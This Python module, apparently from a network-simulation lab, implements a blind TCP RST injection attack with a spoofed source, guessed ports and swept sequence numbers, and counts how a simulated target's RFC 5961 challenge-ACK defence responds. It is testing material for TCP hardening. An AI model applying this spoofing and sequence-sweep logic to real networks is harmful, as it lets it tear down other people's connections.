"""RSTs from somebody who sees nothing: the 4-tuple is guessed and sequence numbers are swept, one per receive window.

RFC 5961 section 3.2 defeats it: an RST that is in the window but not exactly at RCV.NXT gets a challenge ACK.

    blind-rst:
      node: attacker            # sends
      spoof: client             # whom the RSTs pretend to be from
      target: server
      target_port: 80
      spoof_ports: 32768-32800
      step: 65535
      rate: 100000              # packets per second
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, ClassVar, Final

from lab import spec
from lab.attacks.base import Attack, AttackContext, AttackSpec
from lab.attacks.forge import tcp_packet
from nodes.base.clock import SECOND, Timer
from nodes.base.errors import InvalidArgument, SocketError
from nodes.base.events import ATTACK_INJECTED, CHALLENGE_ACK, RECEIVED, RESET
from nodes.packet.address import address_text
from nodes.packet.tcp import RST

_SPACE: Final = 1 << 32
#: How long it goes on counting what the target makes of it after the last packet.
_LINGER_NS: Final = SECOND
#: At most one INJECTED event for so many packets; the counters are exact at any time.
_EVENT_EVERY: Final = 1000


class _PortsKind(spec.Kind):
    pattern = r"([0-9]{1,5})(?:-([0-9]{1,5}))?"

    def parse(self, value: spec.Value, path: str) -> tuple[int, int]:
        match = re.fullmatch(self.pattern, str(value.data))
        first, last = (int(match[1]), int(match[2] or match[1])) if match else (0, 0)
        if not 1 <= first <= last <= 65535:
            raise value.error(path, f"{value.data} is not a port or a range of ports, such as 32768-32800")
        return first, last

    def schema(self, defs: dict[str, Any]) -> dict[str, Any]:
        return {"type": ["string", "integer"], "pattern": f"^{self.pattern}$", "minimum": 1, "maximum": 65535}

    def plain(self, data: Any) -> Any:
        return f"{data[0]}-{data[1]}"


@dataclass(frozen=True, kw_only=True)
class BlindRst(AttackSpec):
    """Off-path RSTs: guessed ports, swept sequence numbers, spoofed source."""

    kind: ClassVar[str] = "blind-rst"
    node: str = spec.text(doc="The host that sends.")
    spoof: str = spec.text(doc="Node (or its address) that the RSTs pretend to come from.")
    spoof_ports: tuple[int, int] = spec.of(_PortsKind(), doc="Its port, or a range to try, 32768-32800.")
    target: str = spec.text(doc="Node (or its address) that gets them.")
    target_port: int = spec.number(minimum=1, maximum=65535, doc="Its port.")
    seq_start: int = spec.number(default=0, maximum=_SPACE - 1, doc="First sequence number.")
    seq_count: int = spec.number(default=0, maximum=_SPACE, doc="Numbers to try for each port; 0: the whole space.")
    step: int = spec.number(default=65535, minimum=1, maximum=_SPACE - 1, doc="From one number to the next.")
    rate: int = spec.number(default=100_000, minimum=1, maximum=1_000_000_000, doc="Packets per second.")

    def __post_init__(self) -> None:
        first, last = self.spoof_ports
        if not 1 <= first <= last <= 65535:
            raise InvalidArgument(f"{first}-{last} is not a range of ports", "spoof_ports")
        if self.step < 1 or self.rate < 1:
            raise InvalidArgument("0 is not allowed: 1 or more", "step" if self.step < 1 else "rate")

    @property
    def seqs(self) -> int:
        """Sequence numbers tried for each port."""
        return self.seq_count or -(-_SPACE // self.step)

    def place(self) -> str:
        return self.node

    def make(self, name: str, context: AttackContext) -> Attack:
        return _BlindRst(self, name, context)


class _BlindRst(Attack):
    kind = BlindRst.kind

    def __init__(self, attack: BlindRst, name: str, context: AttackContext) -> None:
        super().__init__(name, context)
        self.spec = attack
        context.node(attack.node)
        self._source = context.host(attack.spoof)[1]
        self._target_node, self._target = context.host(attack.target)
        if len(self._source) != len(self._target):
            both = f"{address_text(self._source)} and {address_text(self._target)}"
            raise InvalidArgument(f"{both} are addresses of two families; give both of one", "spoof")
        first, last = attack.spoof_ports
        self._total = (last - first + 1) * attack.seqs
        self._timer: Timer | None = None
        self._unsubscribe: Callable[[], None] | None = None
        self._started_ns = 0
        self.results = {"sent": 0, "planned": self._total, "accepted": 0, "challenged": 0, "ignored": 0}

    def _begin(self) -> None:
        self._unsubscribe = self.context.subscribe((RESET, CHALLENGE_ACK), self._on_event)
        self._started_ns = self.context.scheduler.now()
        source, target = address_text(self._source), address_text(self._target)
        self._trigger(f"{self._total} RSTs as {source} to {target}:{self.spec.target_port}")
        self._timer = self.context.scheduler.call_at(self._started_ns, self._send, None)

    def _release(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
        if self._unsubscribe is not None:
            self._unsubscribe()
            self._unsubscribe = None

    def _send(self, _: None) -> None:
        """One RST, and the next one a packet interval later: the k-th leaves at exactly start + k / rate."""
        attack = self.spec
        number = self.packets
        if number == self._total:
            self._done(f"{number} RSTs sent")
            return
        port = attack.spoof_ports[0] + number // attack.seqs
        seq = (attack.seq_start + number % attack.seqs * attack.step) % _SPACE
        packet = tcp_packet(self._source, self._target, port, attack.target_port, seq, 0, RST)
        try:
            self.context.send_raw(attack.node, packet)
        except SocketError as error:
            self._done(f"cannot send: {error}")
            return
        self.packets = number + 1
        self.results["sent"] = self.packets
        if number % _EVENT_EVERY == 0:
            self._tell(ATTACK_INJECTED, f"port {port}, seq {seq}")
        due = self._started_ns + self.packets * SECOND // attack.rate
        if self.packets == self._total:
            due += _LINGER_NS
        self._timer = self.context.scheduler.call_at(due, self._send, None)

    def _on_event(
        self,
        seq: int,
        kind: int,
        time_ns: int,
        node: int,
        connection: int,
        cause: int,
        values: tuple[int, ...],
        tail: bytes,
    ) -> None:
        """What the target made of RSTs while the attack ran."""
        if node != self.context.sink.name(self._target_node):
            return
        if kind == CHALLENGE_ACK:
            self.results["challenged"] += 1
        elif values[0] == RECEIVED:
            self.results["accepted" if values[1] else "ignored"] += 1
